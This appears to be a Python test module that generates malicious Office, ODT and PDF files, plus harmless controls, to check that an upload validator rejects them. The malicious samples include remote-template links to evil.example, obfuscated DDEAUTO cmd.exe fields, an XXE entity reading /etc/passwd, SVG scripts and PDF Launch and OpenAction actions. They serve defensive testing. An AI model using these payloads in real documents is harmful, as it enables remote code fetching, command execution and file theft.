"""Tricks by which documents run or fetch something, and ones that only look as if they did."""

from collections.abc import Iterator

from courses.errors import Reason
from tests.files.corpus import Bad
from tests.files.good import chunk, odt, ooxml, ooxml_entries, packed, pdf, picture

R = Reason
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"


def relation(kind: str, target: str, more: str = "") -> str:
    return (
        f'<Relationship xmlns:x="x" Id="r" Type="{OFFICE}/{kind}" Target="{target}" '
        f'TargetMode="External"{more}/>'
    )


def written(body: str) -> bytes:
    """A Word document with `body` in its only paragraph."""
    text = f'<w:document xmlns:w="{W}"><w:body><w:p>{body}</w:p></w:body></w:document>'
    return packed(
        [(n, text if n == "word/document.xml" else c) for n, c in ooxml_entries("docx")]
    )


def tricks() -> Iterator[Bad]:
    """Give the bad files one by one."""
    yield from _fetched()
    yield from _fields()
    yield from _hidden_parts()
    yield from _open_documents()
    yield from _pdfs()
    zipped = chunk(b"zzZz", packed([("a.txt", "a")]))
    yield Bad("zip-inuti.png", picture()[:-12] + zipped + picture()[-12:], (R.UPLOAD_MISMATCH,))


def _fetched() -> Iterator[Bad]:
    for kind, target in (
        ("attachedTemplate", "file:///\\\\evil.example\\a.dotm"),
        ("attachedTemplate", "file:////evil.example/a.dotm"),
        ("attachedTemplate", "file://evil.example/a.dotm"),
        ("attachedTemplate", " https://evil.example/a.dotm"),
        ("attachedTemplate", "%68ttps://evil.example/a.dotm"),
        ("attachedTemplate", "search-ms:query=a"), ("image", "\\\\evil.example\\a.png"),
        ("image", "file://evil.example/a.png"), ("aFChunk", "http://evil.example/a.html"),
        ("mailMergeSource", "file://evil.example/a.mdb"), ("control", "http://evil.example/a"),
        ("package", "http://evil.example/a.xlsx"),
    ):
        yield Bad("hämtar.docx", ooxml("docx", rels=relation(kind, target)), (R.UPLOAD_MACROS,))
    twice = relation("attachedTemplate", "https://evil.example/a", ' x:TargetMode="Internal"')
    yield Bad("dubbelt-attribut.docx", ooxml("docx", rels=twice), (R.UPLOAD_MACROS,))
    listed = f"<Relationships>{relation('attachedTemplate', 'https://evil.example/a')}"
    upper = ("word/_rels/settings.xml.RELS", f"{listed}</Relationships>")
    yield Bad("stora-bokstäver.docx", ooxml("docx", more=[upper]), (R.UPLOAD_MACROS,))
    asks = '<connections><connection id="1" refreshOnLoad="1"><webPr url="http://evil.example"/>' \
           "</connection></connections>"
    yield Bad("frågar.xlsx", ooxml("xlsx", more=[("xl/connections.xml", asks)]),
              (R.UPLOAD_MACROS,))


def _fields() -> Iterator[Bad]:
    for body in (
        '<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe"/>',
        "<w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DE cmd</w:instrText></w:r>",
        "<w:r><w:instrText>&#68;DEAUTO cmd</w:instrText></w:r>",
        "<w:r><w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText></w:r>",
        "<w:r><w:instrText>D<!-- -->DEAUTO cmd</w:instrText></w:r>",
        '<w:r><w:instrText> INCLUDETEXT "\\\\evil\\a" </w:instrText></w:r>',
        "<w:r><w:fldChar w:fldCharType='begin'/><w:instrText>PAGE</w:instrText></w:r>"
        "<w:r><w:fldChar w:fldCharType='begin'/><w:instrText>DDE cmd</w:instrText></w:r>",
    ):
        yield Bad("fält.docx", written(body), (R.UPLOAD_MACROS,))
    linked = '<x:externalLink xmlns:x="x"><x:ddeLink ddeService="cmd"/></x:externalLink>'
    yield Bad("dde.xlsx", ooxml("xlsx", more=[("xl/externalLinks/externalLink1.xml", linked)]),
              (R.UPLOAD_MACROS,))


def _hidden_parts() -> Iterator[Bad]:
    for kind in ("vnd.ms-excel.macrosheet+xml", "vnd.ms-office.VBAPROJECT"):
        listing = f'<Override PartName="/xl/a.xml" ContentType="application/{kind}"/>'
        yield Bad("makroblad.xlsx", ooxml("xlsx", listing=listing, more=[("xl/a.xml", "<a/>")]),
                  (R.UPLOAD_MACROS,))
    elsewhere = [
        (n, c.replace('Target="word/document.xml"', 'Target="word/a.bin"'))
        for n, c in ooxml_entries("docx", more=[("word/a.bin", f'<w:document xmlns:w="{W}"/>')])
    ]
    yield Bad("visar-annat.docx", packed(elsewhere), (R.UPLOAD_UNREADABLE,))
    named = ("word/a.bin", f'<w:a xmlns:w="{W}"><w:instrText>DDE cmd</w:instrText></w:a>')
    yield Bad("annat-namn.docx", ooxml("docx", more=[named]), (R.UPLOAD_MACROS,))
    typed = ("word/a.bin", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')
    yield Bad("annat-namn.docx", ooxml("docx", more=[typed]), (R.UPLOAD_UNREADABLE,))
    large = ("word/a.xml", f"<a>{'<b/>' * 6_000_000}</a>")
    late = ("word/b.xml", f'<w:a xmlns:w="{W}"><w:instrText>&#68;DE a</w:instrText></w:a>')
    stuffed = [("word/media/a.png", bytes(range(256)) * 4_000), large, late]
    yield Bad("bakom-något-stort.docx", ooxml("docx", more=stuffed),
              (R.UPLOAD_MACROS, R.UPLOAD_UNPACKS))
    for name in ("a.chm", "a.msi", "a.url", "a.settingcontent-ms", "a.iqy", "a.vbe", "a.sct"):
        yield Bad("program.docx", ooxml("docx", more=[(f"word/{name}", "a")]), (R.UPLOAD_MACROS,))
    for drawn in ("<svg><script>a</script></svg>", '<svg onload="a()"/>',
                  '<svg><a href="javascript:a()"/></svg>', "<svg><foreignObject/></svg>"):
        yield Bad("ritning.docx", ooxml("docx", more=[("word/media/a.svg", drawn)]),
                  (R.UPLOAD_MACROS,))


def _open_documents() -> Iterator[Bad]:
    for text in (
        '<d:object xmlns:d="d" xmlns:x="x" x:href="file://evil.example/a"/>',
        '<d:image xmlns:d="d" xmlns:x="x" x:href="file://evil.example/a.png"/>',
        '<text:section-source xmlns:x="x" x:href="http://evil.example/a.odt"/>',
        '<d:floating-frame xmlns:d="d" xmlns:x="x" x:href="http://evil.example/"/>',
        '<text:dde-connection-decl/>', "<text:applet/>",
        '<text:event-listener xmlns:x="x" x:href="vnd.sun.star.scr&#105;pt:a"/>',
    ):
        yield Bad("hämtar.odt", odt(text), (R.UPLOAD_MACROS,))


def _pdfs() -> Iterator[Bad]:
    for objects in (
        [b"<</Type/XObject/Subtype/Image/F(a)/Length 0>>stream\n\nendstream"],
        [b"<</Subtype/Form/BBox[0 0 1 1]/Ref<</F(a)/Page 0>>/Length 0>>stream\n\nendstream"],
        [b"<</Type/Annot/Subtype/RichMedia>>"], [b"<</Type/Annot/Subtype/3D>>"],
        [b"<</Type/3D/OnInstantiate 1 0 R>>"], [b"<</S/URI/URI( JavaScript:a)>>"],
        [b"<</S 7 0 R/F(cmd.exe)>>", b"/Launch"], [b"<</S/URI/URI(file://evil.example/a)>>"],
    ):
        yield Bad("aktiv.pdf", pdf(objects=objects), (R.UPLOAD_ACTIVE,))
    for opened in (b"<</S/URI/URI(http://evil.example)>>", b"<</S/Thread/F(a)/D 0>>"):
        yield Bad("öppnar.pdf", pdf(catalog=b"/OpenAction" + opened), (R.UPLOAD_ACTIVE,))
    attached = b"<</Type/Annot/Subtype/FileAttachment/FS<</F(a)>>>>"
    yield Bad("bilaga.pdf", pdf(objects=[attached]), (R.UPLOAD_NESTED,))


def harmless() -> dict[str, bytes]:
    """Return name → content of files that real programs make, and that are to be taken."""
    second = [
        (n.replace("document.xml", "document2.xml"), c.replace("document.xml", "document2.xml"))
        for n, c in ooxml_entries("docx")
    ]
    icon = ("word/media/a.svg", '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0"/></svg>')
    local = relation("attachedTemplate", "file:///C:\\Mallar\\Kommun.dotm")
    return {
        "webben.docx": packed(second),
        "ikon.docx": ooxml("docx", more=[icon, ("word/media/image1.png", picture())]),
        "med-lokal-mall.docx": ooxml("docx", rels=local),
        "bild-från-en-sida.docx": ooxml("docx", rels=relation("image", "https://a.example/a.png")),
        "ordet-dde.docx": written("<w:r><w:instrText>TITLE DDE</w:instrText><w:t>DDE</w:t></w:r>"),
        "film.pptx": ooxml("pptx", rels=relation("video", "https://a.example/film")),
        "äldre.odt": odt(more=[("Configurations2/accelerator/current.xml", "")]),
        "länk.odt": odt('<text:a xmlns:x="x" x:href="https://a.example">a</text:a>'),
        "länk.pdf": pdf(objects=[b"<</S/URI/URI(https://a.example)>>"]),
        "nollor-efter.pdf": pdf() + b"\0" * 30,
    }
